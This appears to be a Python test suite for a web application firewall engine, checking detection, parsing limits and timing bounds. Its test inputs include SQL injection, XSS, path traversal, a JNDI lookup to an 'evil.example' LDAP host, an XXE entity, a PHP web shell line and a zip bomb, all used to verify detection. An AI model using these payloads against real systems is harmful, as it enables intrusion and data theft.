def test_adversarial_documents_stay_bounded(content_type: str, value: str) -> None:
    engine = Engine()
    request = Request("POST", "/", (("Content-Type", content_type),), value.encode())
    started = time.process_time()
    engine.scan(request)
    assert time.process_time() - started < 2.0


def test_an_archive_of_many_entries_or_a_bomb_stays_bounded() -> None:
    """A ZIP's entries are read from their local headers, 256 at most, and an XML part
    inflates to 64 KB at most: 20,000 entries of one letter, and a part of a DOCTYPE and
    30 MB of blanks that deflate to 30 KB."""
    entry = b"PK\x03\x04" + b"\x14\x00" + b"\x00" * 16 + b"\x00" * 4 + b"\x01\x00\x00\x00x"
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as deflated:
        deflated.writestr("word/document.xml", "<!DOCTYPE d>" + " " * 30_000_000)
    engine = Engine()
    for body in (entry * 20_000, bomb.getvalue()):
        started = time.process_time()
        engine.scan(Request("POST", "/", (("Content-Type", "application/zip"),), body))
        assert time.process_time() - started < 2.0


@pytest.mark.parametrize(
    ("content_type", "padding", "payload", "detail"),
    [
        # field 1, a varint: nothing to read, but a field
        (
            "application/x-protobuf",
            b"\x08\x01" * 9000,
            b"\x12\x0c1' OR '1'='1",
            "protobuf field limit of 8192 reached",
        ),
        # an array of 9,000 nils
        (
            "application/msgpack",
            b"\xdc\x23\x28" + b"\xc0" * 9000,
            b"\xac1' OR '1'='1",
            "MessagePack value limit of 8192 reached",
        ),
    ],
    ids=["protobuf", "msgpack"],
)
def test_wire_format_values_past_the_limit_are_an_overlimit(
    content_type: str, padding: bytes, payload: bytes, detail: str
) -> None:
    """Padding must not carry a payload past a wire-format reader unseen."""
    request = Request("POST", "/", (("Content-Type", content_type),), padding + payload)
    hits = Engine().scan(request)
    assert (AttackType.OVERLIMIT, detail) in {(h.type, h.fragment) for h in hits}


def test_a_payload_inside_folded_repetition_is_found() -> None:
    engine = Engine()
    body = "${{" * 20_000 + "' UNION SELECT password FROM users--" + "ab" * 20_000
    hits = engine.scan(Request("POST", "/", (("Content-Type", "text/plain"),), body.encode()))
    assert AttackType.SQLI in {h.type for h in hits}


def test_time_limit_reports_overlimit() -> None:
    engine = Engine(EngineSettings(time_limit=1e-9))
    query = "&".join(f"q{i}=1%27%20or%201%3D1--" for i in range(50))
    hits = engine.scan(Request("GET", "/?" + query))
    assert AttackType.OVERLIMIT in {h.type for h in hits}
    assert any("time limit" in h.fragment for h in hits)


def test_known_values_come_to_the_same_verdict() -> None:
    # A short value seen before at the same point is not scanned again: neither the verdict
    # nor where the work cap falls may depend on what the engine has seen.
    headers = (("User-Agent", "sqlmap/1.7"), ("Cookie", "theme=<script>alert(1)</script>"))
    request = Request("GET", "/?q=1%27%20or%201%3D1--&page=x" + "ab" * 60, headers)
    fresh = Engine().scan(request)
    assert {h.type for h in fresh} == {AttackType.SQLI, AttackType.SCANNER, AttackType.XSS}
    warm = Engine()
    warm.scan(Request("GET", "/", headers))  # the headers are known now, the query is not
    assert sorted(map(repr, warm.scan(request))) == sorted(map(repr, fresh))
    cap = EngineSettings(work_cap=160)  # falls on the cookie
    capped = Engine(cap).scan(request)
    assert AttackType.OVERLIMIT in {h.type for h in capped}
    warm = Engine(cap)
    warm.scan(Request("GET", "/", headers))
    assert sorted(map(repr, warm.scan(request))) == sorted(map(repr, capped))


def test_a_value_repeated_in_an_array_is_scanned_once_and_found_at_each_position() -> None:
    """A bulk request repeats its values at every position of an array: a value is known
    whatever its position, and a hit is named for each position it is at."""
    rows = [{"status": "active", "note": "<script>alert(1)</script>"} for _ in range(3)]
    body = json.dumps(rows).encode()
    request = Request("POST", "/bulk", (("Content-Type", "application/json"),), body)
    points = {h.point for h in Engine().scan(request)}
    assert points == {f"post.json.{i}.note" for i in range(3)}
    warm = Engine()
    # Seen before at other positions, in another request: the hit is named for this one.
    warm.scan(Request("POST", "/bulk", request.headers, json.dumps([{}, {}, *rows]).encode()))
    assert sorted(map(repr, warm.scan(request))) == sorted(map(repr, Engine().scan(request)))


# What `opaque` reads character by character, as a regular expression.
OPAQUE = re.compile(
    r"[0-9a-f]{8,128}|[0-9A-F]{8,128}"
    r"|[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}"
)


@pytest.mark.parametrize(
    "value",
    [
        "0123abcd",
        "0123abc",  # too short
        "0123ABCD",
        "0123abCD",  # two cases: a word, perhaps
        "a" * 128,
        "a" * 129,
        "12345678",
        "deadbeefg",
        "0123456789abcdef0123456789abcdef01234",
        "123e4567-e89b-12d3-a456-426614174000",
        "123E4567-E89B-12d3-A456-426614174000",  # a UUID's case is not checked
        "123e4567-e89b-12d3-a456-42661417400g",
        "123e4567-e89b-12d3-a456_426614174000",
        "123e4567e-89b-12d3-a456-426614174000",
        "123e4567-e89b-12d3-a456-4266141740000",
        "123e4567-e89b-12d3-a456-42661417400",
        "123e4567abcdef0123456789abcdef012345",  # 36 digits, no hyphen
        "----------------",
        "abcdef0\u0660",  # an Arabic-Indic zero is a digit, not a hex digit
        "ａｂｃｄｅｆ１２",  # full-width
    ],
)
def test_identifiers_and_digests_are_told_as_the_pattern_tells_them(value: str) -> None:
    assert opaque(value) == bool(OPAQUE.fullmatch(value))


def test_identifiers_and_digests_agree_with_the_pattern_on_random_values() -> None:
    rng = random.Random(7)
    alphabets = ("0123456789abcdef", "0123456789ABCDEF", "0123456789abcdefABCDEF-", "0af-gG~")
    for _ in range(20_000):
        alphabet = rng.choice(alphabets)
        size = rng.choice((7, 8, 9, 35, 36, 37, 128, 129, rng.randrange(1, 140)))
        value = "".join(rng.choice(alphabet) for _ in range(size))
        if size == 36 and rng.random() < 0.5:
            value = "-".join((value[:8], value[9:13], value[14:18], value[19:23], value[24:]))
        assert opaque(value) == bool(OPAQUE.fullmatch(value)), value


# What `points._syntax` reads character by character, as a regular expression.
SYNTAX = re.compile(r"[^\w.~@:+,/-]")


def test_syntax_in_a_path_is_told_as_the_pattern_tells_it() -> None:
    rng = random.Random(11)
    alphabet = [chr(c) for c in range(128)] + list("éß日本٣²½_ ＿\u200b\u00a0\ud800")
    values = ["", "/api/v1/users", "/a b", "/%", "/ünïcödé/名前", "/x_y~z@a:b+c,d-e.f"]
    values += [
        "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 12))) for _ in range(20_000)
    ]
    for value in values:
        assert points._syntax(value) == bool(SYNTAX.search(value)), repr(value)


def test_a_long_paths_known_endpoint_is_found_as_the_joined_pattern_finds_it() -> None:
    """Past 4 KB a path is searched for each endpoint on its own (`vpatch._known_path`): the
    same match, the leftmost and of the first alternative there, as all of them at once."""
    rng = random.Random(5)
    segments = words(
        "toolpane.aspx setupwizard.aspx rpc2 webui logoutconfirm.html json setup-restore.action"
        " p u doauthentication.do users password control forgotpassword;jsessionid=1 . webtools"
        " mifs aad api developmentserver metadatauploader gwtest formssso cgi-bin"
        " nas_sharing.cgi app a.session apps zxtm wizard.fcgi index.php v1 management"
        " commandcenter phpunit src util php eval-stdin.php ; a b"
    )
    found = 0
    for _ in range(3000):
        path = "/" + "/".join(rng.choice(segments) for _ in range(rng.randrange(1, 12)))
        if rng.random() < 0.5:
            path += "/a" * rng.randrange(2048, 4096)
        if rng.random() < 0.5:
            path = "/b" * rng.randrange(2048, 4096) + path
        joined = vpatch._PATHS.search(path)
        each = vpatch._known_path(path)
        assert (joined and (joined.span(), joined.lastgroup)) == (
            each and (each.span(), each.lastgroup)
        ), path[:200]
        found += joined is not None
    assert found > 500


def test_a_digest_is_not_scanned_but_a_java_stream_in_hex_is() -> None:
    digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    assert Engine().scan(Request("GET", f"/?etag={digest}")) == []
    stream = "aced0005737200116a6176612e7574696c2e48617368536574"
    hits = Engine().scan(Request("GET", f"/?state={stream}"))
    assert {h.type for h in hits} == {AttackType.RCE}


@pytest.mark.parametrize(
    ("payload", "kind"),
    [
        ("' OR '1'='1' --", AttackType.SQLI),  # 30 digits: an id's length, but text
        ("<script>alert(1)</script>", AttackType.XSS),
        ("../../../../etc/passwd", AttackType.PTRAV),
        ("${jndi:ldap://x/a}", AttackType.RCE),
    ],
)
def test_a_payload_in_hex_is_read_as_the_text_it_spells(payload: str, kind: AttackType) -> None:
    """Hex digits whose bytes are readable text are decoded (`hex`): an application that
    hex-encodes a field reads the payload; a digest's bytes are no text (above)."""
    for spelled in (payload.encode().hex(), "0x" + payload.encode().hex().upper()):
        hits = Engine().scan(Request("GET", f"/?state={spelled}"))
        assert kind in {h.type for h in hits}
        assert any(h.encoding == "hex" for h in hits if h.type is kind)


@pytest.mark.parametrize(
    ("payload", "kind"),
    [("%3Bid", AttackType.RCE), ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", AttackType.PTRAV)],
)
def test_a_number_that_is_hex_of_text_is_read_as_that_text(payload: str, kind: AttackType) -> None:
    """Hex of a percent-encoded payload is decimal digits alone: a number, but for the text
    it spells. A number's own bytes are no text, and its value is not read again."""
    digits = payload.encode().hex()
    assert digits.isdigit()
    hits = Engine().scan(Request("GET", f"/?state={digits}"))
    assert [(h.type, h.encoding) for h in hits] == [(kind, "hex+percent")]
    for number in ("1700000000", "4111111111111111", "20240101", "4915112345678"):
        assert Engine().scan(Request("GET", f"/?state={number}")) == []


def test_known_values_are_bounded() -> None:
    engine = Engine()
    for i in range(VERDICT_CACHE + 500):
        engine.scan(Request("GET", f"/?q=value{i}x"))
    assert len(engine._recent) + len(engine._older) <= VERDICT_CACHE


def test_an_encoded_payload_in_a_long_page_is_found() -> None:
    # Decoded layers of a long text hold only its changed lines: the payload is among them.
    page = "\n".join(f"{n}. Shell & SQL notes, 50% done, see \\n escapes" for n in range(600))
    body = page + "\nq=%3Cscript%3Ealert(1)%3C%2Fscript%3E\n" + page
    hits = Engine().scan(Request("POST", "/", (("Content-Type", "text/plain"),), body.encode()))
    assert {h.type for h in hits} == {AttackType.XSS}
    assert {h.encoding for h in hits} == {"percent"}


def test_an_engine_failure_is_an_overlimit_not_a_pass(monkeypatch: pytest.MonkeyPatch) -> None:
    """A request the engine fails on was not analysed: the policy decides on it as on any
    overlimit (blocked in block mode), instead of an error the gateway fails open on."""
    settings = config.parse({"route_config": {"wallarm_mode": "block"}}, env={})
    inspector = Inspector(settings, MemorySink())

    def broken(view: object) -> object:
        raise RuntimeError("a bug")

    from node.detectors import xss

    monkeypatch.setattr(xss, "confirm", broken)  # a detector's bug: the engine fails
    outcome = inspector.inspect(parse_message(request_message("/?q=%3Cb%3E")), "inline")
    assert [(h.type, h.point) for h in outcome.hits] == [(AttackType.OVERLIMIT, "request")]
    assert "analysis failed: RuntimeError('a bug')" in outcome.hits[0].fragment
    assert outcome.block


def test_half_a_surrogate_pair_is_no_failure() -> None:
    """JSON can escape half a surrogate pair (`\\ud800`), which no text holds."""
    engine = Engine()
    hits = engine.scan(Request("GET", "/a\ud800?q=%3Cscript%3E\ud800", (("X-A", "\udfff"),)))
    assert {h.type for h in hits} == {AttackType.XSS}


def test_the_same_value_at_the_same_point_is_scanned_once_per_request(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Two thousand identical parameters, or comments, cost what one does."""
    from node.detectors import xss

    calls: list[str] = []
    confirm = xss.confirm

    def counted(view: object) -> object:
        calls.append("x")
        return confirm(view)  # type: ignore[arg-type]

    monkeypatch.setattr(xss, "confirm", counted)
    once = Engine().scan(Request("GET", "/?q[]=%3Cb%3Ex"))
    single = len(calls)
    calls.clear()
    many = Engine().scan(Request("GET", "/?" + "&".join(["q[]=%3Cb%3Ex"] * 500)))
    assert {h.type for h in many} == {h.type for h in once}
    assert len(calls) == single


def test_a_closing_tag_closes_what_it_opened_within_reach() -> None:
    body = b"<a><b><c></b>x</a>"
    points = extract(Request("POST", "/", (("Content-Type", "text/xml"),), body), Limits())
    assert ("post.xml.a", "x") in points  # </b> closed c too
    deep = "".join(f"<t{i}>" for i in range(100)) + "</t0>x"
    points = extract(Request("POST", "/", (("Content-Type", "text/xml"),), deep.encode()), Limits())
    assert points[-1] == ("post.xml.t92.t93.t94.t95.t96.t97.t98.t99", "x")  # out of reach


def test_events_keep_a_bounded_part_of_a_long_request_target() -> None:
    """Events are kept by the hundred thousand: a client's 60 KB request target is not."""
    sink = MemorySink()
    inspector = Inspector(config.parse({}, env={}), sink)
    uri = "/search?q=%3Cscript%3E&pad=" + "x" * 60_000
    inspector.inspect(parse_message(request_message(uri)), "inline")
    (event,) = sink.events
    assert event.uri == uri[:URI_CHARS] and {h.type for h in event.attacks} == {AttackType.XSS}


@pytest.mark.parametrize(("setting", "blocked"), [("analyse", False), ("overlimit", True)])
def test_a_body_the_gateway_sent_in_part(setting: str, blocked: bool) -> None:
    """`body_size` says the gateway kept part of the body back (its max_body_bytes): the
    rest is analysed as it came, or also counted as an overlimit (limits.oversize_body)."""
    settings = config.parse(
        {"route_config": {"wallarm_mode": "block"}, "limits": {"oversize_body": setting}},
        env={},
    )
    inspector = Inspector(settings, MemorySink())
    message = request_message("/upload", method="POST", body=b"x" * 1024, body_size=10_000)
    outcome = inspector.inspect(parse_message(message), "inline")
    assert outcome.block is blocked
    assert any("body of 10000 bytes, 1024 sent" in h.fragment for h in outcome.hits) is blocked
    whole = request_message("/upload", method="POST", body=b"x" * 1024)
    assert not inspector.inspect(parse_message(whole), "inline").block


@pytest.mark.parametrize(("setting", "blocked"), [("analyse", False), ("overlimit", True)])
def test_a_body_whose_middle_the_node_does_not_parse(setting: str, blocked: bool) -> None:
    """Over twice `limits.max_body_bytes`, the node parses a text body's head and tail
    only: with `oversize_body: overlimit` what it skipped counts as what the gateway kept
    back does, so that a payload in the middle cannot pass unseen."""
    settings = config.parse(
        {
            "route_config": {"wallarm_mode": "block"},
            "limits": {"oversize_body": setting, "max_body_bytes": 1024},
        },
        env={},
    )
    inspector = Inspector(settings, MemorySink())
    body = "hello " * 400 + "<script>alert(1)</script>" + " world" * 400
    text = [["Host", "api.example.com"], ["Content-Type", "text/plain"]]
    large = request_message("/api", method="POST", body=body.encode(), headers=text)
    outcome = inspector.inspect(parse_message(large), "inline")
    assert outcome.block is blocked
    detail = "characters of the body past the 2048 analysed"
    assert any(detail in h.fragment for h in outcome.hits) is blocked
    both_ends = request_message("/api", method="POST", body=b"x" * 2048, headers=text)
    assert not inspector.inspect(parse_message(both_ends), "inline").block


@pytest.mark.parametrize(("setting", "blocked"), [("analyse", False), ("overlimit", True)])
def test_a_body_in_a_coding_the_node_does_not_undo(setting: str, blocked: bool) -> None:
    """Brotli and zstd bodies, which ASP.NET Core's request decompression reads, are data
    to the node: with `oversize_body: overlimit` such a body counts as one it could not
    analyse. Gzip and deflate are undone and analysed."""
    settings = config.parse(
        {"route_config": {"wallarm_mode": "block"}, "limits": {"oversize_body": setting}},
        env={},
    )
    inspector = Inspector(settings, MemorySink())
    headers = [["Host", "api.example.com"], ["Content-Type", "application/json"]]
    brotli = [*headers, ["Content-Encoding", "br"]]
    packed = request_message("/api", method="POST", body=b"\x1b\x1a\x00\xf8", headers=brotli)
    outcome = inspector.inspect(parse_message(packed), "inline")
    assert outcome.block is blocked
    detail = "a body in content coding br, which the node does not undo"
    assert any(h.fragment == detail for h in outcome.hits) is blocked
    gzipped = [*headers, ["Content-Encoding", "gzip"]]
    body = gzip.compress(b'{"note": "hello"}')
    plain = request_message("/api", method="POST", body=body, headers=gzipped)
    assert not inspector.inspect(parse_message(plain), "inline").block


def test_a_json_body_over_the_limit_is_parsed_whole() -> None:
    """A JSON document longer than `limits.max_body_bytes` is parsed whole, its values
    points as in a shorter one: the middle of a bulk request is read, and read fast."""
    limits = Limits(max_body_bytes=1024)
    body = json.dumps([{"bio": "hello"}] * 200 + [{"bio": "<script>alert(1)</script>"}])
    request = Request("POST", "/api", (("Content-Type", "application/json"),), body.encode())
    points = extract(request, limits)
    assert points.unparsed == 0 and ("post.json.200.bio", "<script>alert(1)</script>") in list(
        points
    )
    engine = Engine(EngineSettings(limits=limits, report_unparsed=True))
    assert {h.type for h in engine.scan(request)} == {AttackType.XSS}
    cut = Request("POST", "/api", (("Content-Type", "application/json"),), body.encode()[:-1])
    assert extract(cut, limits).unparsed == len(body) - 1 - 2 * 1024  # no document: text
    # No more of its values are read than of a text, 2048 characters: the short one whole,
    # the long one at both its ends.
    huge = json.dumps({"a": "x" * 3000, "b": "<script>alert(1)</script>"}).encode()
    points = extract(Request("POST", "/api", (("Content-Type", "application/json"),), huge), limits)
    assert list(points)[-3:] == [
        ("post.json.a", "x" * 1012),
        ("post.json.a", "x" * 1011),
        ("post.json.b", "<script>alert(1)</script>"),
    ]
    assert points.unparsed == 3025 - 2048


def test_the_target_and_headers_are_read_as_a_body_is_at_their_ends() -> None:
    """What precedes the body is read no further than its first and last
    `max_body_bytes` characters, as a body is: a megabyte of `%25` in a query took 58 ms
    to decode, and 900 KB of text in a header 150 ms to scan. A payload after the padding
    is in the tail; what lies between is counted, and reported where `oversize_body` is
    `overlimit`."""
    limits = Limits(max_body_bytes=1024)
    padding = "%25" * 5000
    uri = f"/?q=%27%20OR%201%3D1--&pad={padding}&r=%3Cscript%3E"
    points = extract(Request("GET", uri), limits)
    assert ("query.q", "' OR 1=1--") in list(points)
    assert ("query.r", "<script>") in list(points)
    tail = dict(points)["query.tail"]  # the end of the pair the tail starts in
    assert tail.endswith("%" * 300) and len(tail) < 1024
    assert sum(len(value) for _, value in points) <= 2 * 1024
    assert points.unparsed_head > 0 and points.unparsed == 0
    # A path, and the points of headers: their first and last 1024 characters of them all.
    path = extract(Request("GET", "/" + "a" * 4000 + "/..%2f..%2fetc%2fpasswd"), limits)
    assert dict(path)["path.tail"] == "a" * 1001 + "/../../etc/passwd"
    headers = (("X-Pad", "b" * 5000), ("X-Api-Version", "${jndi:ldap://evil.example/a}"))
    points = extract(Request("GET", "/", headers), limits)
    assert list(points)[-1] == ("header.X-API-VERSION", "${jndi:ldap://evil.example/a}")
    assert sum(len(value) for _, value in points) <= 2 * 1024
    engine = Engine(EngineSettings(limits=limits, report_unparsed=True))
    hits = {(h.type, h.point) for h in engine.scan(Request("GET", "/", headers))}
    assert hits == {(AttackType.RCE, "header.X-API-VERSION"), (AttackType.OVERLIMIT, "request")}
    # A header between two long ones is read whole, the long ones at both their ends.
    between = (headers[0], headers[1], ("X-End", "c" * 5000))
    points = extract(Request("GET", "/", between), limits)
    assert ("header.X-API-VERSION", "${jndi:ldap://evil.example/a}") in list(points)
    assert sum(len(value) for _, value in points) <= 2 * 1024
    # The parameters a header holds are parsed at their ends too, as a query's are:
    # 900 KB of `a;` in a Cookie took 57 ms to split, of `a&` in a Referer's query 108.
    cookie = "a=1; " + "b;" * 3000 + " c=<script>"
    points = extract(Request("GET", "/", (("Cookie", cookie),)), limits)
    assert list(points) == [("path", "/"), ("cookie.a", "1"), ("cookie.c", "<script>")]
    assert points.unparsed_head == len(cookie) - 2 * 1024
    shorter = extract(Request("GET", "/", (("Cookie", cookie[:3000]),)), limits)
    assert shorter.unparsed_head == 3000 - 2 * 1024  # not lost where expansions are kept
    long_value = extract(
        Request("GET", "/", (("Cookie", "a=1; c=" + "x" * 5000 + "<script>"),)), limits
    )
    assert dict(long_value)["cookie.tail"] == "x" * 1016 + "<script>"  # the end of its pair
    referer = "https://shop.example/?" + "a&" * 3000 + "r=<script>"
    points = extract(Request("GET", "/", (("Referer", referer),)), limits)
    assert ("header.REFERER.query.r", "<script>") in list(points)
    # What was left out of the header, counted once (not again for its query).
    assert len(referer) - 2 * 1024 <= points.unparsed_head < len(referer)
    assert {h.type for h in Engine(EngineSettings(limits=limits)).scan(Request("GET", uri))} == {
        AttackType.SQLI,
        AttackType.XSS,
    }


@pytest.mark.parametrize(
    "text",
    [
        '{"a": 1}',
        ' \n{"a": [1, "x", null]}\t ',
        "[]",
        '"just a string"',
        "12.5e3",
        "",
        "   ",
        '{"a": 1} {"b": 2}',
        '{"a": 1,}',
        "{'a': 1}",
        '{"a": NaN}',
        '["\\ud800"]',
        "\u00a0{}",  # a space JSON does not allow
        '{"a": "b"} x',
    ],
)
def test_json_is_read_as_json_loads_reads_it(text: str) -> None:
    """The parser calls json's C scanner itself, without json.loads around it: it takes
    and refuses the same documents."""
    from node import points

    try:
        expected: object = json.loads(text)
    except ValueError:
        expected = ValueError
    try:
        found: object = points._parse_json(text)
    except ValueError:
        found = ValueError
    assert repr(found) == repr(expected)  # repr: NaN is not equal to itself


# Pieces a mutation splices into requests: structure of every body kind the engine parses,
# encodings it decodes, and characters whose lower case is longer than themselves.
_PIECES = [
    *(b"{", b"}", b"[", b"]", b'"', b"'", b"<", b">", b"=", b"&", b";", b"%", b"%25"),
    *(b"%u0041", b"\\u00", b"&#x", b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b"eyJ", b".."),
    *(b"/", b"\\", b"${", b"{{", b"/*", b"*/", b"--X\r\n", b"\r\n\r\n", b"\x1f\x8b\x08"),
    *(b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", b"base64,", b"\xc0\xae"),
    *("é", "ÿþ", "日本", "\u2028", "\ufeff", "ａｂ", "İ", "ß", "ǅ"),
    # (An empty quoted parameter, `name=""`, failed the compiled multipart parser.)
    *(b'""', b'name=""', b"Content-Transfer-Encoding: base64\r\n", b"=3D", b"%uD800"),
]
_BODY_KINDS = [
    "application/json",
    "application/xml",
    "multipart/form-data; boundary=X",
    "application/x-www-form-urlencoded",
    "text/plain",
    "application/json; charset=utf-16",
]


def _mutated(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        at = rng.randint(0, len(out))
        piece = rng.choice(_PIECES)
        raw = piece.encode() if isinstance(piece, str) else piece
        if rng.random() < 0.3 and out:
            del out[at : at + rng.randint(1, 20)]
        else:
            out[at:at] = raw * (rng.randint(1, 50) if rng.random() < 0.2 else 1)
    return bytes(out)


def test_mutated_requests_never_fail_and_stay_bounded() -> None:
    """Requests of the corpora with structure spliced in, cut out and repeated: no scan
    raises, and none costs seconds (a regex that backtracks exponentially on one of them
    was found this way)."""
    rng = random.Random(2026)
    corpora = Path(__file__).parent / "corpora"
    cases = [
        json.loads(line)
        for name in ("attacks-placed.jsonl", "benign-api.jsonl", "attacks-lists.jsonl")
        for line in (corpora / name).read_text().splitlines()
    ]
    engine = Engine()
    for _ in range(4000):
        case = rng.choice(cases)
        headers = [(n, v) for n, v in case["headers"] if n.lower() != "content-type"]
        headers.append(("Content-Type", rng.choice(_BODY_KINDS)))
        body = _mutated(rng, base64.b64decode(case["body_b64"]))
        uri = _mutated(rng, case["uri"].encode()).decode("latin-1")
        request = Request(case["method"], uri, tuple(headers), body)
        started = time.process_time()
        engine.scan(request)
        assert time.process_time() - started < 2.0, request


@pytest.mark.parametrize(
    ("content_type", "prefix", "suffix"),
    [
        ("text/plain", b"", b" and more text" * 40),
        ("application/x-www-form-urlencoded", b"q=", b"&page=2" * 40),
        ("application/octet-stream", b"", b"\n" * 300),
        (
            "multipart/form-data; boundary=B",
            b'--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n',
            b'\r\n--B\r\nContent-Disposition: form-data; name="page"\r\n\r\n2\r\n--B--\r\n',
        ),
    ],
)
def test_a_payload_across_the_end_of_a_bodys_head_is_whole_in_its_tail(
    content_type: str, prefix: bytes, suffix: bytes
) -> None:
    # A body longer than the limit, but not twice as long: its head and its tail meet.
    engine = Engine(EngineSettings(limits=Limits(max_body_bytes=1024)))
    payload = b"<script>alert(1)</script>"
    for cut in range(1, len(payload)):
        padding = b"lorem ipsum dolor sit amet " * 60
        body = (prefix + padding)[: 1024 - cut] + payload + suffix
        assert len(body) < 2048
        hits = engine.scan(Request("POST", "/", (("Content-Type", content_type),), body))
        assert AttackType.XSS in {h.type for h in hits}, cut


def test_a_json_parse_leaves_the_garbage_collector_as_it_found_it() -> None:
    """The collector waits while a request's points are read (a JSON document is a tree,
    no cycle in it, and its containers would set it off every 700), and runs again after,
    whether the body was a document or not, or had more values than the point limit; one
    switched off stays off."""
    engine = Engine()
    json_type = (("Content-Type", "application/json"),)
    assert gc.isenabled()
    many = json.dumps([f"value {n}" for n in range(5000)]).encode()
    for body in (b"[" + b"[]," * 1000 + b"[]]", b'{"a": [1, 2', b"[[[[", b'{"q": 1} x', many):
        engine.scan(Request("POST", "/", json_type, body))
        assert gc.isenabled(), body
    gc.disable()
    try:
        engine.scan(Request("POST", "/", json_type, b'{"a": [[], {"b": "c"}]}'))
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_a_parsed_documents_containers_are_gone_before_the_collector_runs_again() -> None:
    """The collector waits until a request's points are read, by when the documents
    parsed for them are dropped: it never walks their containers (its first run after a
    parse walked 333,333 empty arrays, 10–15 ms)."""
    body = b"[" + b"[]," * 100_000 + b"[]]"
    request = Request("POST", "/", (("Content-Type", "application/json"),), body)
    runs: list[int] = []

    def noted(phase: str, info: dict[str, int]) -> None:
        if phase == "start":
            runs.append(info["generation"])

    gc.collect()
    gc.callbacks.append(noted)
    try:
        extract(request, Limits())
    finally:
        gc.callbacks.remove(noted)
    assert runs == []
    assert gc.isenabled()


@pytest.mark.parametrize(
    ("content_type", "read"), [("application/octet-stream", False), ("text/plain", True)]
)
def test_the_end_of_a_data_body_is_data(content_type: str, read: bool) -> None:
    """A body of no text type whose head is data (a message catalog's table of offsets, a
    library's header) ends in data too, whatever its last strings spell: the head decides,
    as it does for a shorter body. A body declared text is read to its end."""
    engine = Engine(EngineSettings(limits=Limits(max_body_bytes=1024)))
    head = b"\xde\x12\x04\x95" + bytes(range(256)) * 8
    strings = [b"rcmd: socket: %m", b"rcmd: %s: short read", b"Done; cat /etc/passwd"] * 30
    body = head + b"\x00".join(strings)
    hits = engine.scan(Request("PUT", "/files/libc.mo", (("Content-Type", content_type),), body))
    assert any(hit.point == "post.tail" for hit in hits) == read


def test_a_body_just_twice_the_limit_long_has_a_tail_that_meets_its_head() -> None:
    # A gateway that sends twice the node's limit cuts a longer body to just that length:
    # the tail began where the head ended, and a payload across the cut was in neither.
    engine = Engine(EngineSettings(limits=Limits(max_body_bytes=1024)))
    payload = b"<script>alert(1)</script>"
    for length in (2048 - 100, 2047, 2048):
        head = (b"lorem ipsum dolor sit amet " * 60)[: 1024 - 4]  # `<scr` | `ipt>`
        body = head + payload + b" and more text" * 100
        request = Request("POST", "/", (("Content-Type", "text/plain"),), body[:length])
        assert AttackType.XSS in {h.type for h in engine.scan(request)}, length


def test_the_end_of_a_long_uploaded_file_is_data_and_its_code_still_counts() -> None:
    # The end of a long upload is read as its file is (a part of the same headers): random
    # bytes, read as text before, held a filter to the LDAP detector and a quote to the
    # SQL one.
    def upload(content: bytes) -> Request:
        body = (
            b'--B\r\nContent-Disposition: form-data; name="avatar"; filename="a.png"\r\n'
            b"Content-Type: image/png\r\n\r\n" + content + b"\r\n--B--\r\n"
        )
        return Request("POST", "/", (("Content-Type", "multipart/form-data; boundary=B"),), body)

    engine = Engine()
    image = b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(90_000)
    assert engine.scan(upload(image)) == []
    shell = upload(image[:70_000] + b"<?php system($_GET['c']); ?>")
    assert [(h.type, h.point) for h in engine.scan(shell)] == [
        (AttackType.RCE, "post.multipart.avatar.code")
    ]


def test_a_tail_that_meets_the_head_starts_before_it_ends_at_a_line() -> None:
    lines = [f"line {n:03d} of a plain text document, and nothing more" for n in range(30)]
    body = "\n".join(lines).encode()
    assert 1024 < len(body) < 2048
    request = Request("POST", "/", (("Content-Type", "text/plain"),), body)
    tail = dict(extract(request, Limits(max_body_bytes=1024)))["post.tail"]
    # Within an eighth of the limit before the head's end, from the start of a line.
    assert len(body) - 1024 < len(tail) <= len(body) - 1024 + 128
    assert tail.startswith("line ") and tail in body.decode()


def test_a_long_paths_known_endpoint_is_read_at_its_ends_as_the_engine_reads_it() -> None:
    """Past 128 KB the known exploits' rules read a path's first and last 64 KB, as the
    engine reads any long value (decoding a megabyte of `%` took 135 ms): an endpoint at
    either end is found, named in the tail as the engine names what it reads there."""
    pad = "a/" * 100_000

    def found(uri: str) -> list[tuple[int, str]]:
        return [(hit.rule, hit.point) for hit in Engine().scan(Request("GET", uri))]

    assert found("/_ignition/health-check/" + pad) == [(16040, "path.1")]
    assert found("/" + pad + "_ignition/health-check") == [(16040, "path.tail")]
    assert found("/" + pad + "_ignition%2Fhealth-check") == [(16040, "path.tail")]
    assert found("/" + pad + "_ignition/health-check/" + pad) == []
